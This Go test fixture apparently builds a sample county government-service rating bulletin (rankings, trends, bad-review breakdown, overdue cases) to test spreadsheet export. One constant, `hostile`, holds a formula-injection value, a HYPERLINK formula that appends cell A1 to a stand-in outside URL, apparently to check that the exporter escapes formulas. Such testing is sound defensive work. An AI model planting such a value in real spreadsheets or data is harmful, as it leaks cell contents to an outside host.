package xlsx_test

import (
	"fmt"
	"time"

	"github.com/haochaping/haochaping"
	"github.com/haochaping/haochaping/scoring"
)

// Shorthands of the fixtures.
var (
	txt   = scoring.Text
	num   = scoring.Number
	blank = scoring.Blank
)

// hostile is a cell text a spreadsheet would take for a formula if it were written as one.
const hostile = `=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")`

// november is the monthly bulletin (月度通报) of 2026年11月 of a county's six units: a
// ranking with a bar chart, a six-month trend with a line chart, the bad reviews by
// dimension with a share chart and the overdue cases without a chart.
func november() *scoring.Bulletin {
	type unit struct {
		name               string
		ratings, good, bad float64
		score              float64
		previous           float64 // ratings the month before; 0 for none
	}
	units := []unit{
		{"县行政审批局", 1234, 1187, 12, 4.87, 1180},
		{"县公安局", 986, 931, 21, 4.71, 1012},
		{"县人力资源和社会保障局", 743, 702, 9, 4.79, 690},
		{"县医疗保障局", 512, 471, 17, 4.58, 530},
		{"县不动产登记中心", 388, 351, 14, 4.52, 402},
		{"县税务局", 97, 95, 0, 4.93, 0}, // joined the platform this month
	}
	var ranking [][]scoring.Cell
	for _, u := range units {
		change := blank()
		if u.previous > 0 {
			change = num(u.ratings/u.previous - 1)
		}
		ranking = append(ranking, []scoring.Cell{
			txt(u.name), num(u.ratings), num(u.good), num(u.good / u.ratings),
			num(u.bad), num(u.bad / u.ratings), num(u.score), change,
		})
	}
	var trend [][]scoring.Cell
	ratings := []float64{3410, 3502, 3388, 3687, 3759, 3960}
	bad := []float64{101, 96, 88, 90, 79, 73}
	for i, p := range scoring.Months(scoring.Month(2026, time.November), 6) {
		change := blank()
		if i > 0 {
			change = num(100 * (bad[i]/ratings[i] - bad[i-1]/ratings[i-1]))
		}
		trend = append(trend, []scoring.Cell{
			txt(p.Key()), num(ratings[i]), num(1 - bad[i]/ratings[i] - 0.012), num(bad[i] / ratings[i]), change,
		})
	}
	dims := []struct {
		name string
		n    float64
	}{{"服务态度", 21}, {"办事效率", 27}, {"材料要求", 11}, {"环境设施", 6}, {"线上系统", 8}}
	var byDim [][]scoring.Cell
	for _, d := range dims {
		byDim = append(byDim, []scoring.Cell{txt(d.name), num(d.n), num(d.n / 73)})
	}
	return &scoring.Bulletin{
		Title:  "2026年11月政务服务“好差评”情况通报",
		Issuer: "融安县政务服务监督管理办公室",
		Period: scoring.Month(2026, time.November),
		Date:   time.Date(2026, time.December, 5, 9, 0, 0, 0, haochaping.Location()),
		Lead: []string{
			"2026年11月，全县政务服务“好差评”系统共收到评价3960条，其中好评3887条，好评率98.16%；差评73条，差评率1.84%，较上月下降0.26个百分点。",
			"差评均已按规定进行回访核实和整改，整改率100%。",
		},
		Sections: []scoring.Section{
			{
				Heading:    "各单位评价情况",
				Paragraphs: []string{"县行政审批局评价数最多，县税务局好评率最高；县医疗保障局、县不动产登记中心差评率偏高，请对照整改。"},
				Table: &scoring.Table{
					Sheet: "单位排名",
					Columns: []scoring.Column{
						{Title: "单位", Format: scoring.FormatText},
						{Title: "评价数", Format: scoring.FormatInt},
						{Title: "好评数", Format: scoring.FormatInt},
						{Title: "好评率", Format: scoring.FormatPercent},
						{Title: "差评数", Format: scoring.FormatInt},
						{Title: "差评率", Format: scoring.FormatPercent},
						{Title: "平均分", Format: scoring.FormatDecimal},
						{Title: "环比", Format: scoring.FormatDeltaPercent},
					},
					Rows:  ranking,
					Notes: []string{"注：好评率、差评率以评价数为分母；环比为评价数较上月的变化，县税务局本月新接入，无上月数据。"},
				},
				Chart: &scoring.Chart{Kind: scoring.ChartBar, Title: "各单位评价数与差评数", Labels: 0, Values: []int{1, 4}},
			},
			{
				Heading: "近6个月趋势",
				Table: &scoring.Table{
					Sheet: "近6个月 趋势",
					Columns: []scoring.Column{
						{Title: "月份", Format: scoring.FormatText},
						{Title: "评价数", Format: scoring.FormatInt},
						{Title: "主动好评率", Format: scoring.FormatPercent},
						{Title: "差评率", Format: scoring.FormatPercent},
						{Title: "差评率变化（百分点）", Format: scoring.FormatDelta},
					},
					Rows: trend,
				},
				Chart: &scoring.Chart{Kind: scoring.ChartLine, Title: "好评率与差评率走势", Labels: 0, Values: []int{2, 3}},
			},
			{
				Heading:    "差评问题分布",
				Paragraphs: []string{"办事效率、服务态度类差评占比最高，合计占65.75%。"},
				Table: &scoring.Table{
					Sheet: "差评维度",
					Columns: []scoring.Column{
						{Title: "问题类型", Format: scoring.FormatText},
						{Title: "差评数", Format: scoring.FormatInt},
						{Title: "占比", Format: scoring.FormatPercent},
					},
					Rows: byDim,
				},
				Chart: &scoring.Chart{Kind: scoring.ChartShare, Title: "差评问题分布", Labels: 0, Values: []int{1}},
			},
			{
				Heading:    "超期未整改差评",
				Paragraphs: []string{"以下差评超过整改期限，请相关单位于12月10日前办结并报送整改情况。"},
				Table: &scoring.Table{
					Sheet: "超期件",
					Columns: []scoring.Column{
						{Title: "案件编号", Format: scoring.FormatText},
						{Title: "单位", Format: scoring.FormatText},
						{Title: "事项", Format: scoring.FormatText},
						{Title: "超期工作日", Format: scoring.FormatInt},
						{Title: "状态", Format: scoring.FormatText},
					},
					Rows: [][]scoring.Cell{
						{txt("CP-2026-11-0031"), txt("县医疗保障局"), txt("职工医保异地就医备案"), num(3), txt("整改中")},
						{txt("CP-2026-11-0047"), txt("县不动产登记中心"), txt(hostile), num(1), txt("待回访")},
						{txt("CP-2026-11-0052"), txt("县公安局"), txt(""), blank(), txt("已退回重办")},
					},
				},
			},
			{
				Heading:    "下一步工作",
				Paragraphs: []string{"各单位要以“好差评”为抓手，持续优化服务流程。"},
			},
		},
	}
}

// units returns a bulletin of n units with one ranking table and its bar chart: the
// benchmark's and the chart limit's bulletin.
func units(n int) *scoring.Bulletin {
	rows := make([][]scoring.Cell, n)
	for i := range rows {
		ratings := float64(100 + 37*i%911)
		good := ratings - float64(i%13)
		rows[i] = []scoring.Cell{
			txt(fmt.Sprintf("第%d服务窗口", i+1)), num(ratings), num(good), num(good / ratings),
			num(ratings - good), num((ratings - good) / ratings), num(4 + float64(i%100)/100), num(float64(i%7-3) / 50),
		}
	}
	b := november()
	s := b.Sections[0]
	s.Table.Rows = rows
	b.Sections = []scoring.Section{s}
	return b
}
